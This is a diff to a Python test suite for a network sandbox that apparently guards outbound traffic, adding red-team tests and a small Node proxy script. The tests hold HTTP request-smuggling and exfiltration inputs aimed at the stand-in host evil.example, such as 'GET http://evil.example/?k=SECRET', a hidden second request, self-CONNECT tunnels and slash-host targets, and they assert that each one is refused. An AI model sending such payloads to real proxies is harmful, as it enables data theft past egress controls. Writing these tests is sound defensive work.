@@ -10,11 +10,14 @@ The proxy only records what it is asked and answers every read with a small 200.
 from __future__ import annotations
 
 import os
+import shutil
 import socket
+import subprocess
 import sys
 import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import Any, ClassVar
 from urllib.parse import urlsplit
 
@@ -73,7 +76,8 @@ ATTACKS = {
         b"POST / HTTP/1.1\r\nHost: " + HOST + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
         b"3\r\nabc\r\n0\r\n\r\n" + CONNECT_EVIL],
     "after a refused CONNECT, another": [
-        b"CONNECT " + HOST + b":443 HTTP/1.1\r\nHost: " + HOST + b":443\r\n\r\n", CONNECT_EVIL],
+        b"CONNECT api2.cursor.sh:443 HTTP/1.1\r\nHost: api2.cursor.sh:443\r\n\r\n",
+        CONNECT_EVIL],
     "a bare LF that a lenient proxy reads as a line end": [
         b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\nX: a\nCONNECT evil.example:443 HTTP/1.1"
         b"\r\n\r\n"],
@@ -179,6 +183,7 @@ class _ReadingProxy(BaseHTTPRequestHandler):
 
     protocol_version = "HTTP/1.1"
     heard: ClassVar[list[str]] = []
+    tunnel_reads_http: ClassVar[bool] = False
 
     def log_message(self, format: str, *args: Any) -> None:
         pass
@@ -195,6 +200,8 @@ class _ReadingProxy(BaseHTTPRequestHandler):
 
     def do_CONNECT(self) -> None:
         self._answer(self.path.rpartition(":")[0])
+        if self.tunnel_reads_http:  # a tunnel to itself: its own reader hears what follows
+            self.handle_one_request()
 
 
 READER_CASES = {
@@ -244,3 +251,126 @@ def test_another_port_of_the_proxys_own_host_must_be_allowed_too() -> None:
         heard = bytes(proxy.received)
     assert b"2222" not in heard
     assert run.refused("sni-mismatch")[0]["first"] == f"the connection asks for {PROXY}:2222"
+
+
+# -- a third red-team round, against the same reader (and node's, where it is installed) -------
+
+def _through_reader(flights: list[bytes], *, close_after: bool = False,
+                    keep_reading_after_connect: bool = False) -> tuple[list[str], Any]:
+    """``flights`` sent one by one to a reading proxy behind the wall; what it heard."""
+    _ReadingProxy.heard = []
+    _ReadingProxy.tunnel_reads_http = keep_reading_after_connect
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _ReadingProxy)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    port = server.server_address[1]
+
+    def client(emit: Emit) -> Any:
+        answers = []
+        with connect_by_name(PROXY, port) as sock:
+            sock.settimeout(2)
+            for flight in flights:
+                sock.sendall(flight.replace(b"PORT", str(port).encode()))
+                time.sleep(0.2)
+            if close_after:
+                sock.shutdown(socket.SHUT_WR)
+            try:
+                answers.append(sock.recv(500).decode("latin-1"))
+            except OSError as exc:
+                answers.append(f"error {exc}")
+        return answers
+
+    try:
+        run = run_boxed(build_policy([f"{PROXY}:{port}", f"{PROXY}:443"]), client,
+                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
+        time.sleep(0.3)
+    finally:
+        server.shutdown()
+        server.server_close()
+    return list(_ReadingProxy.heard), run
+
+
+@pytest.mark.parametrize("line", [
+    b"GET http://evil.example/?k=SECRET HTTP/1.1", b"CONNECT evil.example:443 HTTP/1.1",
+    b"GET http://evil.example/?k=SECRET",
+])
+def test_a_first_line_the_connections_end_cuts_short_never_reaches_the_reader(
+    line: bytes,
+) -> None:
+    """Python's reader acts on a line that the end of the stream ends: a first line starting
+    with a method is held back whole until its line end."""
+    heard, run = _through_reader([line], close_after=True)
+    assert not any("evil.example" in host for host in heard), heard
+    assert run.refused("sni-mismatch"), run.report
+
+
+def test_a_refused_line_end_resets_the_far_end_instead_of_ending_the_stream() -> None:
+    heard, _ = _through_reader([b"GET http://evil.example/?k=SECRET HTTP/1.1", b"\r", b"X"])
+    assert not any("evil.example" in host for host in heard), heard
+
+
+def test_a_body_the_reader_does_not_read_is_never_taken_for_the_next_request() -> None:
+    smuggled = b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"
+    heard, run = _through_reader([b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: "
+                                  + str(len(smuggled)).encode() + b"\r\n\r\n" + smuggled])
+    assert not any("evil.example" in host for host in heard), heard
+    assert run.refused("sni-mismatch"), run.report
+
+
+def test_a_connect_to_the_proxy_itself_is_refused() -> None:
+    """A tunnel to the proxy's own port reaches its reader unchecked: refused."""
+    heard, run = _through_reader(
+        [b"CONNECT " + HOST + b":PORT HTTP/1.1\r\nHost: " + HOST + b":PORT\r\n\r\n",
+         b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
+        keep_reading_after_connect=True)
+    assert heard == []
+    assert "a CONNECT to the proxy itself" in run.refused("sni-mismatch")[0]["first"]
+
+
+def test_a_byte_over_0x7f_in_a_target_is_refused_and_reported() -> None:
+    heard, run = _through_reader([b"GET http://evil.example/\x80 HTTP/1.1\r\n\r\n"])
+    assert heard == []
+    assert run.refused("sni-mismatch"), run.report
+
+
+NODE_PROXY = """
+const http = require('http');
+const server = http.createServer((req, res) => {
+  let host = 'none';
+  try { host = new URL(req.url, 'http://' + req.headers.host).hostname; } catch (e) {}
+  console.log('heard ' + host);
+  res.writeHead(200, {'Content-Length': 2}); res.end('ok');
+});
+server.listen(0, '127.0.0.1', () => console.log('port ' + server.address().port));
+setTimeout(() => process.exit(0), 30000);
+"""
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
+@pytest.mark.parametrize("target", [b"//evil.example/?k=SECRET", b"/\\evil.example/?k=SECRET"])
+def test_node_never_reads_another_host_from_a_target_that_starts_with_a_slash(
+    target: bytes, tmp_path: Path,
+) -> None:
+    """WHATWG's URL reader (node's) takes //host and /\\host for a URL with a host."""
+    script = tmp_path / "proxy.js"
+    script.write_text(NODE_PROXY)
+    node = subprocess.Popen(["node", str(script)], stdout=subprocess.PIPE, text=True)
+    try:
+        assert node.stdout is not None
+        port = int(node.stdout.readline().split()[1])
+
+        def client(emit: Emit) -> Any:
+            with connect_by_name(PROXY, port) as sock:
+                sock.settimeout(2)
+                sock.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n")
+                try:
+                    return sock.recv(200).decode("latin-1")
+                except OSError as exc:
+                    return f"error {exc}"
+
+        run = run_boxed(build_policy([f"{PROXY}:{port}"]), client,
+                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
+    finally:
+        node.kill()
+        out, _ = node.communicate(timeout=10)
+    assert "evil.example" not in out, out
+    assert run.refused("sni-mismatch"), run.report
